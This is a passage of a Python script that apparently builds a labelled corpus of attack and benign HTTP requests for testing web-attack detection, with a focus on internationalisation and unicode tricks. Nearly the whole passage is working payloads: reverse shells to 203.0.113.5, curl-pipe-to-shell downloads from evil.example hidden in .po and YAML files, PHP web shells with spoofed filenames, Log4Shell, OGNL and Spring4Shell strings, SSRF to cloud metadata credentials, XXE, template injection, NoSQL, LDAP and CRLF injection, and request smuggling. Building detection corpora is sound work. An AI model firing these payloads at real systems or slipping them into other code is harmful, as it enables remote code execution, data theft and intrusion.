        upload(r, "files.acme-cloud.com", "/v1/uploads", fn_urllib3("отчёт.po|nc 203.0.113.5 9001 -e /bin/sh"), "text/plain", "x", ua="python-requests/2.25.1", lang="ru"),
    ])
    G("rce", "json-escape", lambda r: [
        dict(method="POST", host="convert.acme-cloud.com", path="/api/iconv", body=jsu({"text": "こんにちは", "locale": "de_DE.UTF-8\\u003b id"}), ua="axios/1.7.7"),
        dict(method="POST", host="fonts.talad-thai.co.th", path="/api/fonts/render", body=jsu({"text": "สวัสดี", "font": "Noto\\u0060id\\u0060"}), browser=True, lang="th"),
        dict(method="POST", host="tts.acme-global.com", path="/api/tts", body=jsu({"text": "Привет \\u0024(cat /etc/passwd)", "voice": "ru-RU"}), browser=True, lang="ru"),
        dict(method="POST", host="convert.acme-cloud.com", path="/api/ffmpeg", body=jsu({"input": "字幕.srt", "args": ["-o", "out.mp4\\u007c nc 203.0.113.5 9001 -e /bin/sh"]}), ua="axios/1.7.7"),
    ])
    G("rce", "locale-env", lambda r: [
        rawq(r, "en", "/cgi-bin/cal", "locale=en_US.UTF-8;id;"),
        dict(method="GET", host="tools.sakura-ec.jp", path="/api/date", params=[("lang", "ja_JP$(sleep 10)")], browser=True, lang="ja"),
        dict(method="GET", host="convert.acme-cloud.com", path="/api/convert", params=[("from", "SHIFT_JIS"), ("to", "UTF-8|id")], browser=True, lang="ja"),
        dict(method="GET", host="tools.carsi.com.tr", path="/api/sort", params=[("collation", "tr_TR`cat /etc/passwd`")], browser=True, lang="tr"),
    ])
    G("rce", "fullwidth", lambda r: [
        dict(method="GET", host="tts.acme-global.com", path="/api/tts", params=[("text", "こんにちは；ｃａｔ /etc/passwd")], browser=True, lang="ja"),
        dict(method="GET", host="netcheck.hongmall.cn", path="/api/ping", params=[("host", "8.8.8.8｜id")], browser=True, lang="zh-CN"),
        dict(method="GET", host="netcheck.hongmall.cn", path="/api/ping", params=[("host", "127.0.0.1 ＄（id） ｀whoami｀")], browser=True, lang="zh-CN"),
    ])
    G("rce", "shellshock", lambda r: [
        hdr(r, "ja", [["Accept-Language", "() { :; }; /bin/bash -c 'cat /etc/passwd'"]], path="/cgi-bin/i18n.cgi"),
        hdr(r, "ko", [["Content-Language", "() { :;}; echo; /usr/bin/id"]], path="/cgi-bin/lang.sh"),
    ])
    po_py = po_file(random.Random("po-py"), "de").replace(PLURAL_FORMS["de"], "nplurals=2; plural=(n != 1) if __import__('os').system('curl http://evil.example/p|sh') else 0;")
    G("rce", "po-plural", lambda r: [
        upload(r, "admin.acme.io", "/rosetta/files/project/de/0/upload/", fn_plain("django-de.po"), "application/octet-stream", po_py, lang="de"),
    ])

    # ---- PHP ---------------------------------------------------------------
    po_php1 = po_file(random.Random("po-php1"), "ru").replace(PLURAL_FORMS["ru"], "nplurals=2; plural=n!=1;system('id');")
    po_php2 = po_file(random.Random("po-php2"), "fr").replace(PLURAL_FORMS["fr"], "nplurals=2; plural=(n>1)?1:0;eval(base64_decode($_GET[x]));")
    G("php", "po-plural", lambda r: [
        upload(r, "blog.berezka.ru", "/wp-admin/admin-ajax.php", fn_plain("ru_RU.po"), "text/x-gettext-translation", po_php1, extra_parts=[("action", "loco_upload")], lang="ru"),
        upload(r, "boutique.lamaison.fr", "/admin/translations/import", fn_plain("fr_FR.po"), "text/x-gettext-translation", po_php2, lang="fr"),
    ])
    G("php", "wrappers", lambda r: [
        dict(method="GET", host=SHOPS["de"], path="/index.php", params=[("lang", "php://filter/convert.base64-encode/resource=../config")], browser=True, lang="de"),
        dict(method="GET", host=SHOPS["ru"], path="/index.php", params=[("locale", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==")], browser=True, lang="ru"),
        dict(method="GET", host=SHOPS["pl"], path="/index.php", params=[("language", "expect://id")], browser=True, lang="pl"),
        dict(method="GET", host=SHOPS["tr"], path="/index.php", params=[("lang", "phar://uploads/avatars/kullanıcı.jpg/x")], browser=True, lang="tr"),
        dict(method="GET", host=SHOPS["ja"], path="/index.php", params=[("lang", "ｐｈｐ：／／filter/convert.base64-encode/resource=index")], browser=True, lang="ja"),
    ])
    G("php", "bidi-upload", lambda r: [
        upload(r, "drive.acme-cloud.com", "/api/v3/files/upload", fn_plain("invoice\u202efdp.php"), "application/pdf", "<?php system($_GET['cmd']); ?>", lang="de"),
        upload(r, "files.acme-cloud.com", "/v1/uploads", fn_5987("photo\u202egpj.phtml"), "image/jpeg", "<?php @eval($_POST['x']); ?>", lang="en"),
        upload(r, "forum.berezka.ru", "/upload.php", fn_plain("скан\u202egnp.php5"), "image/png", "<?= `$_GET[0]` ?>", lang="ru"),
        upload(r, "jobs.sakura-ec.jp", "/apply/upload", fn_plain("履歴書\u202efdp.php"), "application/pdf", "GIF89a<?php echo shell_exec($_REQUEST['c']); ?>", lang="ja"),
    ])
    G("php", "code-in-text", lambda r: [
        s_tms(r, "zh-CN", "购物车<?php system($_GET['c']); ?>"),
        hdr(r, "de", [["Cookie", "lang=" + quote('O:8:"Language":1:{s:4:"file";s:11:"/etc/passwd";}', safe="") + "; PHPSESSID=" + hexid(r, 26)]], path="/index.php"),
    ])

    # ---- Java (Log4Shell, OGNL, deserialization) ---------------------------
    G("java", "log4shell", lambda r: [
        hdr(r, "ja", [["Accept-Language", "${jndi:ldap://198.51.100.23:1389/a}"]]),
        dict(method="POST", host="api.acme-global.com", path="/v1/feedback", body=js({"text": "Guten Tag"}), browser=True, lang="de",
             extra=[["Content-Language", "${jndi:ldap://198.51.100.23:1389/Exploit}"]]),
        place(r, "zh-CN", "笔记本 ${jndi:ldap://log.evil.example/x}", [s_search, s_review, s_forum]),
        place_json(r, "ja", "\\u0024\\u007bjndi:ldap://evil.example/a\\u007d"),
        dict(method="PUT", host="admin.acme-bank.example.de", path="/admin/i18n/bundles/messages_ja.properties",
             body="greeting=\\u3053\\u3093\\u306b\\u3061\\u306f\nbanner=\\u0024\\u007bjndi:rmi://evil.example:1099/Obj\\u007d\n", ctype="text/plain; charset=ISO-8859-1", browser=True, lang="ja"),
        place(r, "ja", "${${lower:j}${lower:n}${lower:d}i:ldap://198.51.100.23/a}", [s_search, s_search_xhr]),
        place(r, "ko", "${${::-j}ndi:dns://evil.example/x}", [s_review, s_chat]),
        place(r, "ru", "${jndi:ldap://%s/a}" % evil_idn, [s_forum, s_comment]),
        place(r, "ja", "＄｛jndi:ldap://evil.example/a｝", [s_search, s_review]),
        dict(method="GET", host=SHOPS["zh-CN"], path="/", browser=True, lang="zh-CN", ua="Mozilla/5.0 ${jndi:ldap://198.51.100.23:1389/ua}"),
        hdr(r, "ko", [["X-Api-Version", "${jndi:ldap://evil.example/v}"]], path="/api/v1/home"),
        rawq(r, "de", "/", "lang=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"),
        hdr(r, "en", [["Accept-Language", "en-US,${jndi:ldap://127.0.0.1#evil.example:1389/a};q=0.9"]]),
        place(r, "es", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}", [s_translate, s_tms]),
        crowdin_upload(r, fn_plain("messages.de.xlf"), "application/x-xliff+xml", xliff(r, "de", [("welcome", "Welcome", "${jndi:ldap://evil.example/xlf}")]), lang="de"),
    ])
    G("java", "ognl-deser", lambda r: [
        hdr(r, "ja", [["Cookie", "lang=rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldLpEhZWWuLc0AwAAeHB3DAAAAAI/QAAAAAAAAXNyADRvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVjdGlvbnMua2V5dmFsdWUuVGllZE1hcEVudHJ5"]], path="/ja/top.do"),
        dict(method="POST", host="www.sakura-ec.jp", path="/upload.action", body="x", browser=True, lang="ja",
             ctype="%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#cmds={'/bin/bash','-c',#cmd}).(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start())}"),
        dict(method="POST", host="www.sakura-ec.jp", path="/ja/profile", body=qf([("class.module.classLoader.resources.context.parent.pipeline.first.pattern", "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream(); }"),
                                                                                 ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"), ("name", "山田")]),
             ctype="application/x-www-form-urlencoded", browser=True, lang="ja"),
    ])

    # ---- SSRF --------------------------------------------------------------
    ssrf = ["http://⑯⑨。②⑤④。⑯⑨。②⑤④/latest/meta-data/iam/security-credentials/",
            "http://１６９．２５４．１６９．２５４/latest/meta-data/",
            "http://169。254。169。254/latest/meta-data/",
            "http://169．254．169．254/computeMetadata/v1/",
            "http://169｡254｡169｡254/latest/user-data",
            "http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ:8080/admin",
            "http://ｌｏｃａｌｈｏｓｔ/server-status",
            "http://①②⑦.⓪.⓪.①:6379/",
            "http://ｍｅｔａｄａｔａ．ｇｏｏｇｌｅ．ｉｎｔｅｒｎａｌ/computeMetadata/v1/instance/service-accounts/default/token",
            "http://[::ffff:169.254.169.254]/latest/meta-data/",
            "http://2852039166/latest/meta-data/",
            "http://0xA9FEA9FE/latest/meta-data/",
            "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
            "file:///etc/passwd",
            "http://127.0.0.1:2375/containers/json",
            "http://localhost:8500/v1/agent/self",
            "http://[::1]:9200/_cat/indices",
            "http://%E2%91%AF%E2%91%A8%E3%80%82%E2%91%A1%E2%91%A4%E2%91%A3%E3%80%82%E2%91%AF%E2%91%A8%E3%80%82%E2%91%A1%E2%91%A4%E2%91%A3/latest/meta-data/",
            "http://翻訳.example@169.254.169.254/latest/meta-data/",
            "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
            "http://169.254.169.254/openstack/latest/meta_data.json",
            "dict://127.0.0.1:11211/stats",
            "http://127.1/admin/",
            "http://metadata.tencentyun.com/latest/meta-data/",
            "http://⓪ｘａ９ｆｅａ９ｆｅ/latest/meta-data/"]
    G("ssrf", "idn-url", lambda r: [SSRF_SINKS[i % len(SSRF_SINKS)](r, u) for i, u in enumerate(ssrf)])

    # ---- XXE ---------------------------------------------------------------
    dt = '<!DOCTYPE xliff [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    x1 = xliff(random.Random("x1"), "ja", [("welcome", "Welcome", "&xxe;")]).replace("?>\n", "?>\n" + dt + "\n", 1)
    x2 = '<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE resources [<!ENTITY xxe SYSTEM "file:///etc/hosts">]>\n<resources>\n    <string name="app_name">Acme 商城 &xxe;</string>\n</resources>\n'
    x3 = xliff(random.Random("x3"), "ru", [("t", "Title", "Заголовок")], v2=True).replace("?>\n", '?>\n<!DOCTYPE xliff [<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd"> %dtd;]>\n', 1)
    x4 = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE tmx [<!ENTITY xxe SYSTEM "file:///etc/shadow">]>\n<tmx version="1.4"><header creationtool="OmegaT" srclang="en" datatype="plaintext" segtype="sentence" adminlang="en" o-tmf="OmegaT"/>'
          '<body><tu><tuv xml:lang="en"><seg>Cart</seg></tuv><tuv xml:lang="ko"><seg>장바구니&xxe;</seg></tuv></tu></body></tmx>\n')
    x5 = ('<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE root [<!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">]>\n<root>\n  <data name="Greeting" xml:space="preserve">\n    <value>Merhaba &xxe;</value>\n  </data>\n</root>\n')
    x6 = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<plist version="1.0"><dict><key>items</key><dict>'
          '<key>NSStringLocalizedFormatKey</key><string>%#@n@ &xxe;</string></dict></dict></plist>\n')
    x7 = '<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE xliff [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<xliff version="1.2"><file source-language="en" target-language="zh-CN"><body><trans-unit id="a"><source>Hi</source><target>你好&xxe;</target></trans-unit></body></file></xliff>\n'
    x8 = '<?xml version="1.0" encoding="UTF-16BE"?>\n<!DOCTYPE resources [<!ENTITY xxe SYSTEM "file:///proc/self/environ">]>\n<resources><string name="hi">Привет &xxe;</string></resources>\n'
    x9 = '<?xml version="1.0" encoding="UTF-7"?>\n' + utf7_all('<!DOCTYPE resources [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<resources><string name="hi">&xxe;</string></resources>\n')
    x10 = xliff(random.Random("x10"), "de", [("t", "Title", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>')])
    x11 = '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE 資源 [<!ENTITY 数据 SYSTEM "file:///etc/passwd">]>\n<資源><文字列 名前="挨拶">你好 &数据;</文字列></資源>\n'
    x12 = ('<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE resources [\n <!ENTITY a "笑笑笑笑笑笑笑笑笑笑">\n <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">\n <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">\n'
           ' <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">\n <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">\n <!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">\n]>\n<resources><string name="lol">&f;</string></resources>\n')
    x13 = '<?xml version="1.0" standalone="yes"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>\n<svg xmlns="http://www.w3.org/2000/svg" width="200" height="50"><text x="0" y="20">地図 &xxe;</text></svg>\n'
    x14 = '<?xml version="1.0" encoding="EUC-KR"?>\n<!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<order><name>김민준</name><memo>&xxe;</memo></order>\n'
    x15 = ('<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "file:///c:/inetpub/wwwroot/web.config">]>\n'
           '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><Translate xmlns="http://api.microsofttranslator.com/V2">'
           '<text>こんにちは &xxe;</text><from>ja</from><to>en</to></Translate></soap:Body></soap:Envelope>\n')
    G("xxe", "l10n-files", lambda r: [
        crowdin_upload(r, fn_plain("messages.ja.xlf"), "application/x-xliff+xml", x1, lang="ja"),
        dict(method="POST", host="api.lokalise.com", path="/api2/projects/%d.%s/files/upload" % (r.randint(10 ** 8, 10 ** 9), alnum(r, 8)),
             body=js({"data": base64.b64encode(x2.encode()).decode(), "filename": "strings.xml", "lang_iso": "zh_CN"}), ua="lokalise-cli-2/3.1.1", extra=[["X-Api-Token", hexid(r, 40)]]),
        dict(method="PUT", host="weblate.acme.io", path="/api/translations/acme/angular/ru/file/", body=x3, ctype="application/x-xliff+xml; charset=utf-8", ua="wlc/1.15",
             extra=[["Authorization", "Token " + alnum(r, 40)]]),
        upload(r, "tm.acme.io", "/api/tm/import", fn_5987("번역메모리.tmx"), "application/x-tmx+xml", x4, lang="ko"),
        upload(r, "i18n.carsi.com.tr", "/Resources/Upload", fn_plain("Strings.tr-TR.resx"), "text/xml", x5, lang="tr"),
        upload(r, "tolgee.acme.io", "/v2/projects/7/single-step-import", fn_plain("Localizable.stringsdict"), "application/x-plist", x6, lang="ja"),
        raw_post("weblate.acme.io", "/api/translations/acme/web/zh_Hans/file/", "application/x-xliff+xml; charset=utf-16le", b"\xff\xfe" + x7.encode("utf-16-le"), lang="zh-CN"),
        raw_post("api.acme-global.com", "/v1/i18n/android/ru", "text/xml; charset=UTF-16BE", x8.encode("utf-16-be"), lang="ru"),
        dict(method="POST", host="api.acme-global.com", path="/v1/i18n/android/en", body=x9, ctype="text/xml; charset=utf-7", ua="okhttp/4.12.0"),
        crowdin_upload(r, fn_plain("messages.de.xlf"), "application/x-xliff+xml", x10, lang="de"),
        dict(method="POST", host="cms.hongmall.cn", path="/api/i18n/import", body=x11, ctype="application/xml; charset=utf-8", browser=True, lang="zh-CN"),
        crowdin_upload(r, fn_plain("strings.xml"), "text/xml", x12, lang="ja"),
        upload(r, "maps.acme-maps.com", "/api/markers/icon", fn_5987("地図.svg"), "image/svg+xml", x13, lang="ja"),
        raw_post("edi.hanbit-mall.co.kr", "/orders/inbound", "text/xml; charset=EUC-KR", x14.encode("euc_kr"), lang="ko"),
        dict(method="POST", host="legacy-crm.sakura-ec.jp", path="/TranslatorService.asmx", body=x15, ctype="text/xml; charset=utf-8", ua="Mozilla/4.0 (compatible; MSIE 6.0; MS Web Services Client Protocol 4.0.30319.42000)",
             extra=[["SOAPAction", "\"http://api.microsofttranslator.com/V2/Translate\""]]),
    ])

    # ---- SSTI --------------------------------------------------------------
    erb_yml = "ja:\n  welcome: \"ようこそ <%= `id` %>\"\n  cart: \"カート\"\n"
    G("ssti", "templates", lambda r: [
        s_tms(r, "zh-CN", "你好 {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
        place(r, "ja", "{{ ''.__class__.__mro__[1].__subclasses__() }}", [s_review, s_comment, s_profile]),
        s_tms(r, "fr", "Bonjour {{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}"),
        s_tms(r, "de", "Hallo {{ ['id']|filter('system') }}"),
        s_tms(r, "de", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
        s_tms(r, "es", "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")"),
        rawq(r, "ja", "/ja/top", "lang=__%24%7BT(java.lang.Runtime).getRuntime().exec(%27id%27)%7D__%3A%3A.x"),
        s_tms(r, "ru", "${T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd')}"),
        upload(r, "admin.sakura-ec.jp", "/admin/locales/import", fn_plain("ja.yml"), "application/x-yaml", erb_yml, lang="ja"),
        s_tms(r, "pl", "Witaj {php}echo `id`;{/php}"),
        s_tms(r, "en", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
        place(r, "pt", "Olá ${__import__('os').popen('id').read()}", [s_review, s_comment, s_chat]),
        place(r, "ja", "｛｛ config.__class__.__init__.__globals__['os'].popen('id').read() ｝｝", [s_review, s_search, s_comment]),
        place_json(r, "ko", "\\u007b\\u007b lipsum.__globals__.os.popen('id').read() \\u007d\\u007d"),
        place(r, "ko", "{{ request|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fmro\\x5f\\x5f') }}", [s_review, s_profile]),
        s_tms(r, "vi", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
        s_tms(r, "ar", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
        crowdin_upload(r, fn_plain("messages.ja.xlf"), "application/x-xliff+xml",
                       xliff(r, "ja", [("g", "Hello", "{{ constructor.constructor('return process')().mainModule.require('child_process').execSync('id') }}")])),
        hdr(r, "ja", [["Accept-Language", "ja-JP{{ cycler.__init__.__globals__.os.popen('id').read() }}"]], path="/ja/"),
    ])

    # ---- NoSQL -------------------------------------------------------------
    G("nosql", "operators", lambda r: [
        dict(method="POST", host=SHOPS["ja"], path="/api/login", body=js({"locale": "ja", "username": {"$ne": None}, "password": {"$ne": None}}), browser=True, lang="ja"),
        dict(method="POST", host=SHOPS["ja"], path="/api/login", body=jsu({"email": "山田@example.jp", "password": {"\\u0024ne": ""}}), browser=True, lang="ja"),
        dict(method="POST", host=SHOPS["zh-CN"], path="/api/products/search", body=js({"title": {"$where": "sleep(5000) || this.标题 == '手机'"}}), browser=True, lang="zh-CN"),
        rawq(r, "zh-CN", "/api/products", "category%5B%24ne%5D=%E5%AE%B6%E7%94%B5&lang=zh"),
        rawq(r, "ru", "/api/users", "name%5B%24regex%5D=.*&name%5B%24options%5D=si&locale=ru"),
        dict(method="POST", host=SHOPS["ko"], path="/api/users/find", body=js({"$where": "this.이름 == '민준' || sleep(5000)"}), browser=True, lang="ko"),
        dict(method="POST", host=SHOPS["ja"], path="/api/login", body=js({"username": "admin", "password": {"＄ne": "x"}}), browser=True, lang="ja"),
        dict(method="POST", host=SHOPS["ar"], path="/api/login", body=js({"lang": "ar", "username": "مدير", "password": {"$gt": ""}}), browser=True, lang="ar"),
        dict(method="POST", host=SHOPS["de"], path="/api/orders/query", body=js({"filter": {"$expr": {"$function": {"body": "function(){ sleep(3000); return true }", "args": [], "lang": "js"}}}}), browser=True, lang="de"),
        dict(method="POST", host=SHOPS["pt"], path="/api/login", body=jsu({"usuario": {"\\u0024gt": ""}, "senha": {"\\u0024gt": ""}}), browser=True, lang="pt"),
    ])

    # ---- LDAP --------------------------------------------------------------
    ld = lambda r, lang, k, p: dict(method="GET", host="directory.acme-global.com", path="/people/search", params=[(k, p), ("lang", lang)], browser=True, lang=lang)
    G("ldap", "directory", lambda r: [
        ld(r, "ru", "cn", "Иванов*)(|(objectClass=*))"),
        ld(r, "ja", "name", "山田*)(uid=*))(|(uid=*"),
        dict(method="POST", host="sso.hongmall.cn", path="/login", body=qf([("username", "管理员*)(|(userPassword=*))"), ("password", "x")]), ctype="application/x-www-form-urlencoded", browser=True, lang="zh-CN"),
        ld(r, "fr", "mail", "*)(mail=*@*)\x00"),
        ld(r, "de", "sn", "Müller*)(|(memberOf=cn=admins,ou=groups,dc=acme,dc=de))"),
        ld(r, "ja", "uid", "ｊｏｈｎ）（｜（ｕｉｄ＝＊"),
    ])

    # ---- CRLF --------------------------------------------------------------
    G("crlf", "unicode-crlf", lambda r: [
        dict(method="GET", host=SHOPS["zh-CN"], path="/%E5%98%8A%E5%98%8DSet-Cookie:%20sessionid=attacker", raw_path=True, browser=True, lang="zh-CN"),
        rawq(r, "ja", "/redirect", "to=/ja/%E5%98%8D%E5%98%8ALocation:%20https://evil.example"),
        rawq(r, "en", "/i18n/setlang", "lang=ja%E5%98%8A%E5%98%8DContent-Length:%200%E5%98%8A%E5%98%8D%E5%98%8A%E5%98%8D%E5%98%BCsvg/onload=alert(1)%E5%98%BE"),
        dict(method="POST", host="app.sakura-ec.jp", path="/api/session/next", body=js({"next": "/home嘊嘍Set-Cookie: admin=1"}), browser=True, lang="ja"),
        dict(method="POST", host="app.sakura-ec.jp", path="/oauth/authorize", body=jsu({"redirect_uri": "https://app.sakura-ec.jp/cb\\u560d\\u560aSet-Cookie: sid=evil", "client_id": "web"}), browser=True, lang="ja"),
        rawq(r, "fr", "/i18n/setlang", "hl=fr%0D%0ASet-Cookie:%20lang=fr;%20Domain=.lamaison.fr"),
        rawq(r, "en", "/", "locale=en%0d%0aContent-Language:%20x%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E"),
        rawq(r, "de", "/Default.aspx", "lang=de%u000d%u000aSet-Cookie:%20x=1"),
        rawq(r, "ko", "/setlang", "lang=ko%C0%8D%C0%8ASet-Cookie:%20x=1"),
        rawq(r, "zh-CN", "/download", "name=%E6%8A%A5%E5%91%8A.pdf%0D%0ASet-Cookie:x=1"),
        dict(method="GET", host="www.acme-global.com", path="/zh-cn%E5%98%8A%E5%98%8DX-Injected:%201/", raw_path=True, browser=True, lang="zh-CN"),
        rawq(r, "ko", "/setlang", "lang=ko%0ALocation:%20//evil.example"),
        dict(method="POST", host=SHOPS["ja"], path="/contact", body="name=" + quote_plus("山田太郎") + "%0D%0ABcc:%20spam@evil.example&message=" + quote_plus("お問い合わせ"),
             ctype="application/x-www-form-urlencoded", browser=True, lang="ja"),
        rawq(r, "zh-CN", "/go", "url=/%E5%98%8D%E5%98%8ARefresh:%200;url=https://evil.example"),
        hdr(r, "ja", [["Referer", "https://shop.sakura-ec.jp/ja/%E5%98%8D%E5%98%8ASet-Cookie:%20sid=evil"]], path="/ja/back"),
    ])

    # ---- protocol ----------------------------------------------------------
    smug = "0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n"

    def P(r, lang, framing):
        return dict(method="POST", host=SHOPS[lang], path="/api/v1/cart", body=smug, ctype="application/x-www-form-urlencoded", framing=framing, browser=True, lang=lang)
    G("protocol", "unicode-framing", lambda r: [
        P(r, "ja", [["Content-Length", str(len(smug))], ["Transfer-Encoding", "chun\u212aed"]]),
        P(r, "ar", [["Content-Length", "\u0664"], ["Transfer-Encoding", "chunked"]]),
        P(r, "zh-CN", [["Content-Length", "\uff14"], ["Transfer-Encoding", "chunked"]]),
        P(r, "de", [["Content-Length", str(len(smug))], ["Tran\u017ffer-Encoding", "chunked"]]),
        dict(method="GET", host="\uff4c\uff4f\uff43\uff41\uff4c\uff48\uff4f\uff53\uff54", path="/admin/", raw_host=True, browser=True, lang="ja"),
        P(r, "ko", [["Content-Length", str(len(smug))], ["Transfer-Encoding", "chunked\u00a0"]]),
        dict(raw=True, method="GET", host=SHOPS["ru"], uri=b"/uploads/avatar.php\xc0\x80.jpg", headers=[["Accept", "*/*"]], lang="ru"),
    ])

    # ---- generic (prototype pollution, deserialization, code injection) ---
    rails_yml = "ja:\n  greeting: !ruby/object:Gem::Installer\n    i: x\n  spec: !ruby/object:Gem::SourceIndex\n    spec_dirs: [\"|id 1>&2\"]\n"
    py_yml = "ko:\n  greeting: !!python/object/apply:os.system ['curl http://evil.example/k|sh']\n"
    G("generic", "i18n-objects", lambda r: [
        dict(method="POST", host="www.acme-global.com", path="/locales/add/ja/translation", body=js({"__proto__": {"isAdmin": True}, "cart": "カート"}), browser=True, lang="ja"),
        dict(method="POST", host="www.acme-global.com", path="/locales/add/en/common", body=jsu({"\\u005f\\u005fproto\\u005f\\u005f": {"polluted": "yes"}}), browser=True, lang="en"),
        dict(method="POST", host="api.lokalise.com", path="/api2/projects/%d.%s/keys" % (r.randint(10 ** 8, 10 ** 9), alnum(r, 8)),
             body=js({"keys": [{"key_name": "__proto__.isAdmin", "platforms": ["web"], "translations": [{"language_iso": "ko", "translation": "true"}]}]}), ua="lokalise-node/12.7.0",
             extra=[["X-Api-Token", hexid(r, 40)]]),
        rawq(r, "ja", "/locales/resources.json", "lng=ja&ns%5B__proto__%5D%5BisAdmin%5D=1"),
        rawq(r, "ko", "/api/i18n/bundle", "constructor%5Bprototype%5D%5BisAdmin%5D=true&lng=ko"),
        upload(r, "admin.sakura-ec.jp", "/admin/locales/import", fn_plain("ja.yml"), "application/x-yaml", rails_yml, lang="ja"),
        upload(r, "admin.hanbit-mall.co.kr", "/api/locales/import", fn_plain("ko.yml"), "application/x-yaml", py_yml, lang="ko"),
        hdr(r, "zh-CN", [["Cookie", "i18n=" + quote('{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}', safe="")]], path="/zh-cn/"),
        s_tms(r, "en", "{\"+process.mainModule.require('child_process').execSync('id')+\", plural, other {#}}"),
        dict(method="PUT", host="www.acme-global.com", path="/api/settings", body=js({"＿＿ｐｒｏｔｏ＿＿": {"isAdmin": True}, "locale": "ja"}), browser=True, lang="ja"),
    ])

    # ---- scanner -----------------------------------------------------------
    G("scanner", "probes", lambda r: [
        dict(method="GET", host=SHOPS["zh-CN"], path="/product.php", params=[("id", "1"), ("lang", "zh-cn")], ua="sqlmap/1.8.4#stable (https://sqlmap.org)", lang="zh-CN", browser=True),
        dict(method="GET", host=SHOPS["ja"], path="/ja/.env", ua="Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000602)", browser=True, lang="ja"),
        dict(method="GET", host=SHOPS["ko"], path="/ko/.git/config", ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/83.0.4103.116 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", browser=True, lang="ko"),
        dict(method="GET", host=SHOPS["ru"], path="/ru/wp-config.php.bak", ua="Fuzz Faster U Fool v2.1.0-dev", browser=True, lang="ru"),
        dict(method="GET", host=SHOPS["ar"], path="/", ua="Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", browser=True, lang="ar"),
        dict(method="GET", host=SHOPS["de"], path="/de/", params=[("q", "acunetix_wvs_security_test")], ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.21 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.21 Acunetix-Product", browser=True, lang="de",
             extra=[["Acunetix-Aspect", "enabled"], ["Acunetix-Aspect-Password", "082119f75623eb7abd7bf357698ff66c"]]),
    ])
    return out


def main():
    if len(sys.argv) != 2 or sys.argv[1] not in ("attacks", "benign", "stats"):
        sys.stderr.write(__doc__.split("How to run")[1].split("Each output")[0])
        sys.exit(2)
    if sys.argv[1] == "stats":
